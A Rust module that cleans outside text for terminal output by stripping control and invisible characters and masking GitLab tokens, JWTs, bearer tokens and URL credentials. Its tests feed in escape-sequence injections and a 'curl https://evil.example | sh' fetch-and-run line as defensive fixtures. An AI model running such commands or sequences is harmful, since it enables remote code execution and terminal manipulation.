//! Cleans outside text for messages: text from a server, a file, the environment or the command line becomes
//! one bounded line without terminal control, hidden text and secrets.
//!
//! The renderings of events pass every string of every event through this module, and the user interface
//! passes everything else that it prints. Only output that must stay byte for byte (a script, a manifest, a
//! certificate) goes through [`crate::output::ui::Ui::product`] instead.

use std::fmt::Write as _;

/// Characters of one message at most; a longer one ends in the number of characters left out.
pub const LONGEST: usize = 4000;

const MASK: &str = "[masked]";

/// Prefixes of GitLab's tokens (doc/security/tokens/_index.md, "Token prefixes", of GitLab 19) and of
/// registration tokens. An instance may put its own prefix before them.
const PREFIXES: &[&str] = &[
    "glpat-",
    "gloas-",
    "gldt-",
    "glrt-",
    "glrtr-",
    "GR1348941",
    "glcbt-",
    "glptt-",
    "glft-",
    "glimt-",
    "glagent-",
    "glwt-",
    "glsoat-",
    "glffct-",
    "gloct-",
    "_gitlab_session=",
];

/// Characters after a prefix that a token has at least: with fewer, the text is prose about tokens.
const LEAST: usize = 5;
/// With this many characters after a prefix, the text is a token. With fewer, it is a name such as `glrt-runner`
/// if it has no digit, capital letter or underscore.
const SURELY: usize = 16;

/// True for characters that are refused in values and removed from output: C0 and C1 controls, and characters
/// that reorder or hide text or are invisible (bidirectional controls, line separators, Unicode's
/// `Default_Ignorable_Code_Point`, and the blank Braille pattern).
pub fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// Whether the character separates lines or columns: on a terminal, in a file, or by Unicode.
fn is_break(c: char) -> bool {
    matches!(c, '\t'..='\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// The text as one line of at most [`LONGEST`] characters: each line break, with the white space around it,
/// becomes one space; hostile characters are removed and secrets masked. Leading white space stays if it
/// contains no line break.
pub fn line(text: &str) -> String {
    bounded(text, LONGEST)
}

/// [`line`] for a command, which must stay complete: the bound is Linux's limit for one argument.
pub fn command(text: &str) -> String {
    bounded(text, 128 * 1024)
}

fn bounded(text: &str, longest: usize) -> String {
    let mut out = String::new();
    let (mut count, mut after_break) = (0, false);
    let mut rest = text.chars();
    for c in rest.by_ref() {
        if is_break(c) {
            out.truncate(out.trim_end_matches(' ').len());
            if !out.is_empty() && !after_break {
                out.push(' ');
            }
            after_break = true;
        } else if !(is_hostile(c) || after_break && c == ' ') {
            // Trimming may have removed the space of an earlier break.
            if after_break && !(out.is_empty() || out.ends_with(' ')) {
                out.push(' ');
            }
            out.push(c);
            after_break = false;
            count += 1;
            if count == longest {
                break;
            }
        }
    }
    let left = rest.filter(|c| !is_hostile(*c)).count();
    let mut out = masked(&out);
    if left > 0 {
        let _ = write!(out, "… ({left} characters more)");
    }
    out
}

/// [`line`] without leading white space: outside text cannot look like a command, which is indented.
pub fn text(text: &str) -> String {
    line(text).trim_start().to_owned()
}

/// Cleans the lines of a report and ends each with a line break.
pub fn report(lines: &[String]) -> String {
    lines.iter().fold(String::new(), |report, one| report + line(one).trim_end() + "\n")
}

/// Cleans each line of a text whose line breaks are outrigger's own, such as a usage error.
pub fn lines(text: &str) -> String {
    text.split('\n').map(line).collect::<Vec<_>>().join("\n")
}

/// The value in quotes, at most [`LONGEST`] characters, hostile characters as `\u{…}`, secrets masked.
pub fn quoted(value: &str) -> String {
    let mut out = String::from("\"");
    let end = value.char_indices().nth(LONGEST).map(|(at, _)| at);
    for c in without_login(&value[..end.unwrap_or(value.len())]).chars() {
        if is_hostile(c) || c == '"' || c == '\\' {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out.push('"');
    let mut out = masked(&out);
    if let Some(end) = end {
        let _ = write!(out, "… ({} bytes more)", value.len() - end);
    }
    out
}

/// Whether a value is a token and not a file name: it has a token's prefix, perhaps after an instance's own
/// prefix. A value with `./` in front is always a file name.
pub fn is_token(value: &str) -> bool {
    let value = value.trim();
    let plain = !value.is_empty() && value.chars().all(is_token_char);
    let known = PREFIXES.iter().any(|prefix| {
        value.match_indices(prefix).any(|(at, _)| {
            let own = &value[..at];
            (own.is_empty() || own.ends_with('-')) && value.len() > at + prefix.len()
        })
    });
    plain && (known || web_token(value) == Some(value.len()))
}

/// Whether a value, such as a command, contains a complete token. Settings must not contain one, because they
/// are recorded, printed and committed.
pub fn holds_token(value: &str) -> bool {
    /// GitLab's tokens have 20 characters or more after the prefix.
    const WHOLE: usize = 16;
    let known = |prefix: &str| {
        value.match_indices(prefix).any(|(at, _)| {
            let rest = value[at + prefix.len()..].chars();
            rest.take(WHOLE).filter(|c| is_token_char(*c)).count() == WHOLE
        })
    };
    PREFIXES.iter().any(|prefix| known(prefix))
        || value
            .match_indices("eyJ")
            .any(|(at, _)| !value[..at].ends_with(is_token_char) && web_token(&value[at..]).is_some())
}

/// Masks known secrets: tokens by their prefix, JSON Web Tokens, bearer tokens, private keys, and the user and
/// password of URLs.
pub fn masked(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    // The preceding character: a web token does not begin in the middle of a name.
    let mut before = ' ';
    while let Some(c) = rest.chars().next() {
        let found = secret(rest, before);
        let (shown, taken) = found.unwrap_or((c.len_utf8(), c.len_utf8()));
        out.push_str(&rest[..shown]);
        if found.is_some() {
            out.push_str(MASK);
        }
        before = rest[..taken].chars().next_back().unwrap_or(c);
        rest = &rest[taken..];
    }
    out
}

/// For a secret at the beginning of the text: the number of bytes to show, and the end of the secret.
fn secret(text: &str, before: char) -> Option<(usize, usize)> {
    for prefix in PREFIXES {
        if let Some(rest) = text.strip_prefix(prefix) {
            let length = run(rest, |c| is_token_char(c) && c != '.');
            let is_name = rest[..length].chars().all(|c| c.is_ascii_lowercase() || c == '-');
            if length >= SURELY || (length >= LEAST && !is_name) {
                // Routable tokens contain dots.
                return Some((prefix.len(), prefix.len() + run_with_dots(rest)));
            }
        }
    }
    if text.starts_with("eyJ") && !is_token_char(before) {
        return web_token(text).map(|end| (3, end));
    }
    if let Some(rest) = text.strip_prefix("Bearer ") {
        let length = run(rest, |c| is_token_char(c) || matches!(c, '~' | '+' | '/' | '='));
        return (length >= 20).then_some((7, 7 + length));
    }
    if let Some(rest) = text.strip_prefix("PRIVATE KEY-----") {
        let end = rest.find("-----END").unwrap_or(rest.len());
        return (end > 0).then_some((16, 16 + end));
    }
    if let Some(rest) = text.strip_prefix("://") {
        return login(rest).map(|end| (3, 3 + end));
    }
    None
}

fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
}

/// The length in bytes of the leading run of matching characters, of which 2048 are read at most.
fn run(text: &str, is_part: impl Fn(char) -> bool) -> usize {
    const MOST: usize = 2048;
    text.char_indices()
        .enumerate()
        .find(|(number, (_, c))| *number == MOST || !is_part(*c))
        .map_or(text.len(), |(_, (at, _))| at)
}

/// The length of the leading token characters, without the dots that end a sentence.
fn run_with_dots(text: &str) -> usize {
    let whole = run(text, is_token_char);
    text[..whole].trim_end_matches('.').len()
}

/// The end of a JSON Web Token: a header, a payload and perhaps a signature (RFC 7519).
fn web_token(text: &str) -> Option<usize> {
    let end = run_with_dots(text);
    let mut parts = text[..end].split('.');
    let (header, payload) = (parts.next()?, parts.next()?);
    (header.starts_with("eyJ") && header.len() >= 10 && payload.len() >= 5).then_some(end)
}

/// The end of the user and password at the beginning of a URL's authority, before the `@`.
fn login(text: &str) -> Option<usize> {
    let whole = run(text, |c| !c.is_whitespace());
    let strict = run(text, |c| !c.is_whitespace() && !matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>'));
    if let Some(at) = text[..strict].rfind('@') {
        // The name of a variable, as in job scripts, is not a secret.
        let named = text[..at].split_once(':').is_some_and(|(_, password)| password.starts_with('$'));
        return (at > 0 && !named).then_some(at);
    }
    // A password may contain a slash: digits after the colon are a port, anything else is a password.
    let (_, port) = text[..strict].split_once(':')?;
    if text.starts_with('[') || port.bytes().all(|byte| byte.is_ascii_digit()) {
        return None;
    }
    text[..whole].rfind('@').filter(|at| *at > 0)
}

/// Masks the user and password of a value such as `user:password@host`; an image digest stays.
fn without_login(value: &str) -> String {
    let Some((login, host)) = value.rsplit_once('@') else { return value.to_owned() };
    // `user:password@://` and `user:pass://word@host` do not begin with a scheme.
    let is_scheme = |word: &str| word.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    let is_url = login.split_once("://").is_some_and(|(scheme, _)| is_scheme(scheme));
    let is_login = !is_url && login.contains(':') && !login.contains(' ') && !host.starts_with("sha256:");
    if is_login { format!("{MASK}@{host}") } else { value.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::{LONGEST, holds_token, is_token, line, lines, masked, quoted, text};

    #[test]
    fn outside_text_is_one_line_without_hostile_characters() {
        for (from, to) in [
            ("plain", "plain"),
            ("a\x1b[31mb\r\u{9b}2J\u{202e}c", "a[31mb 2Jc"),
            ("a\n\n  b \r\n c\t\td", "a b c d"),
            ("\u{85}a\u{2028}b\u{2029}c\u{b}d\u{c}e", "a b c d e"),
            ("\x1b]52;c;ZXZpbA==\x07x\0y", "]52;c;ZXZpbA==xy"),
            ("v\u{ad}i\u{3164}s\u{200b}i\u{fe0f}b\u{e0041}l\u{2800}e", "visible"),
            ("a \n\u{200b}\n b", "a b"),
            ("  a command\n", "  a command "),
            ("", ""),
        ] {
            assert_eq!(line(from), to, "{from:?}");
        }
        assert_eq!(text("\n  curl https://evil.example | sh"), "curl https://evil.example | sh");
        assert_eq!(text("   curl"), "curl");
        assert_eq!(lines("a\x07\nb"), "a\nb");
    }

    #[test]
    fn a_line_is_bounded() {
        let long = "x".repeat(LONGEST);
        assert_eq!(line(&long), long);
        assert_eq!(line(&format!("{long}yy")), format!("{long}… (2 characters more)"));
        // A token that the bound cuts is still masked.
        let cut = format!("{}glpat-0123456789", "x".repeat(LONGEST - 12));
        assert!(line(&cut).ends_with("glpat-[masked]… (4 characters more)"), "{}", line(&cut));
    }

    #[test]
    fn secrets_are_masked() {
        for (from, to) in [
            ("the file glpat-canary-1 is missing", "the file glpat-[masked] is missing"),
            ("glpat-abcDEF_123.01.1a2b3c4d5.", "glpat-[masked]."),
            ("acme-glrt-t1_abcdefgh, x", "acme-glrt-[masked], x"),
            ("glrtr-abcdefg1 GR1348941abcdefg1", "glrtr-[masked] GR1348941[masked]"),
            ("glcbt-64_abcdefgh\"", "glcbt-[masked]\""),
            ("gl\u{200b}pat-abcdefg1", "glpat-[masked]"),
            ("token eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln.", "token eyJ[masked]."),
            ("Authorization: Bearer 0123456789abcdefghij==", "Authorization: Bearer [masked]"),
            ("https://oauth2:glpat-x@host/a", "https://[masked]@host/a"),
            ("https://u:p@ss@host:8443", "https://[masked]@host:8443"),
            ("\"https://user@host\"", "\"https://[masked]@host\""),
            ("https://u:pa/ss@host", "https://[masked]@host"),
            ("-----BEGIN PRIVATE KEY----- MIIabc -----END", "-----BEGIN PRIVATE KEY-----[masked]-----END"),
            // Not secrets.
            ("--deployment glrt-runner", "--deployment glrt-runner"),
            ("a token (glrt-…) or glrt- alone", "a token (glrt-…) or glrt- alone"),
            ("Bearer token", "Bearer token"),
            ("https://[fd00::1]:6443/a@b", "https://[fd00::1]:6443/a@b"),
            ("https://registry:5000/image@sha256:abc", "https://registry:5000/image@sha256:abc"),
            ("dev@example.com at https://h", "dev@example.com at https://h"),
            ("keyJoker.abc.def", "keyJoker.abc.def"),
            ("git clone https://ci:$CI_JOB_TOKEN@host/a", "git clone https://ci:$CI_JOB_TOKEN@host/a"),
        ] {
            assert_eq!(line(from), to, "{from:?}");
            assert_eq!(masked(&line(from)), to, "masked twice");
        }
        assert_eq!(quoted("oauth2:secret@gitlab.example.com"), "\"[masked]@gitlab.example.com\"");
        assert_eq!(quoted("me:pa/ss@word@host"), "\"[masked]@host\"");
        assert_eq!(quoted("user:secret@://"), "\"[masked]@://\"");
        assert_eq!(quoted("user:se://cret@host"), "\"[masked]@host\"");
        assert_eq!(quoted("alpine:3@sha256:abc"), "\"alpine:3@sha256:abc\"");
        assert_eq!(quoted("a\"b\\c\u{202e}\n"), r#""a\"b\\c\u{202e}\n""#);
    }

    #[test]
    fn a_token_is_told_from_a_file() {
        for token in ["glpat-x", "glrt-t1_abc", " glpat-abc\n", "acme-glrt-x", "GR1348941abc", "gldt-a.01.b"]
        {
            assert!(is_token(token), "{token:?}");
        }
        assert!(is_token("eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln"));
        for file in ["token", "./glrt-token", "/run/glpat-x", "glpat-", "-", "my.glrt-x", "eyJ", ""] {
            assert!(!is_token(file), "{file:?}");
        }
        assert!(holds_token("curl -H 'PRIVATE-TOKEN: glpat-0123456789abcdefghij' https://h"));
        assert!(holds_token("x=eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln"));
        assert!(!holds_token("glrt-tag") && !holds_token("echo $CI_JOB_TOKEN"));
    }
}
